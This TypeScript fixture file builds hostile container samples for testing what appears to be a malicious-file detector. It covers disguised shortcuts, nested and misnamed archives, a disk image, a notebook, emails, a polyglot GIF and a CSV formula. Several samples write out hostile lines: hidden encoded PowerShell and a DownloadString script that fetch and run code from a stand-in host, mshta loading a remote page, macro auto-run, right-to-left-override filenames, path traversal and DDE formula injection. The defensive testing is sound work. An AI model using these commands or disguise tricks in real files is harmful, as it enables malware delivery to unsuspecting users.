/** Shortcuts, archives, disk images, notebooks, messages and pictures as attacks send them. All inert. */
import { zipOf } from '../../engines/zip-fixture.ts';
import { macro, mail } from './document-fixture.ts';
import { HOST, type HostileFile, PROGRAM } from './sample.ts';
import { isoOf, notebookOf, shortcutTo } from './shortcut-fixture.ts';

export const CONTAINERS: readonly HostileFile[] = [
  {
    technique: 'shortcut: encoded PowerShell behind a document icon',
    name: 'u.lnk',
    content: shortcutTo(
      '..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      `-w hidden -enc ${Buffer.from(`IEX (iwr ${HOST}/a)`, 'utf16le').toString('base64')}`,
      'C:\\a\\invoice.pdf',
    ),
    level: 'malicious',
    finds: ['shortcut-attack', 'shortcut-disguised'],
  },
  {
    technique: 'shortcut: arguments pushed out of sight',
    name: 'v.lnk',
    content: shortcutTo('..\\cmd.exe', `${' '.repeat(300)}/c echo inert`, 'shell32.dll'),
    level: 'malicious',
    finds: ['shortcut-hidden-arguments'],
  },
  {
    technique: 'shortcut: mshta loads a page',
    name: 'w.lnk',
    content: shortcutTo('..\\mshta.exe', `${HOST}/a.hta`, ''),
    level: 'suspicious',
    finds: ['shortcut-interpreter'],
  },
  {
    technique: 'archive: program with two extensions',
    name: 'x.zip',
    content: zipOf({ 'invoice.pdf.exe': { content: PROGRAM } }),
    level: 'malicious',
    finds: ['archive-disguised-program'],
  },
  {
    technique: 'archive: script inside, judged in turn',
    name: 'y.zip',
    content: zipOf({ 'order.ps1': `IEX (New-Object Net.WebClient).DownloadString('${HOST}/a')` }),
    level: 'malicious',
    finds: ['code-downloads-and-runs'],
  },
  {
    technique: 'archive in an archive in an archive',
    name: 'z.zip',
    content: zipOf({
      'a.zip': {
        content: zipOf({
          'b.zip': { content: zipOf({ 'c.docm': { content: macro('Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub') } }) },
        }),
      },
    }),
    level: 'malicious',
    finds: ['macro-acts-by-itself'],
  },
  {
    technique: 'archive: name turned around',
    name: 'aa.zip',
    content: zipOf({ 'cod\u202excod.exe': { content: PROGRAM } }),
    level: 'malicious',
    finds: ['archive-disguised-program'],
  },
  {
    technique: 'archive: leaves its folder',
    name: 'ab.zip',
    content: zipOf({ '../../start.txt': 'x' }),
    level: 'suspicious',
    finds: ['archive-path'],
  },
  {
    technique: 'disk image with a shortcut',
    name: 'ac.iso',
    content: isoOf({ 'INVOICE.LNK;1': shortcutTo('..\\cmd.exe', '/c rundll32 a.dll,x', 'invoice.pdf') }),
    level: 'suspicious',
    finds: ['disk-image-runs', 'shortcut-interpreter'],
  },
  {
    technique: 'notebook with a script',
    name: 'ad.one',
    content: notebookOf([Buffer.from('<script>new ActiveXObject("WScript.Shell").Run("calc")</script>')], 'open.hta'),
    level: 'malicious',
    finds: ['onenote-program'],
  },
  {
    technique: 'program named like a document',
    name: 'report.pdf',
    content: PROGRAM,
    level: 'malicious',
    finds: ['disguised-program'],
  },
  {
    technique: 'message with a program',
    name: 'ae.eml',
    content: mail('invoice.exe', PROGRAM),
    level: 'suspicious',
    finds: ['mail-dangerous-attachment'],
  },
  {
    technique: 'message with a macro document',
    name: 'af.eml',
    content: mail('bill.docm', macro('Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub')),
    level: 'malicious',
    finds: ['macro-acts-by-itself'],
  },
  {
    technique: 'picture with an archive behind it',
    name: 'ag.gif',
    content: Buffer.concat([
      Buffer.from('GIF89a\x01\0\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x01D\0;', 'latin1'),
      zipOf({ 'a.exe': { content: PROGRAM } }),
    ]),
    level: 'suspicious',
    finds: ['polyglot'],
  },
  {
    technique: 'table with a command formula',
    name: 'ah.csv',
    content: "name,amount\r\n=cmd|' /c calc'!A1,2\r\n",
    level: 'suspicious',
    finds: ['text-formula'],
  },
];
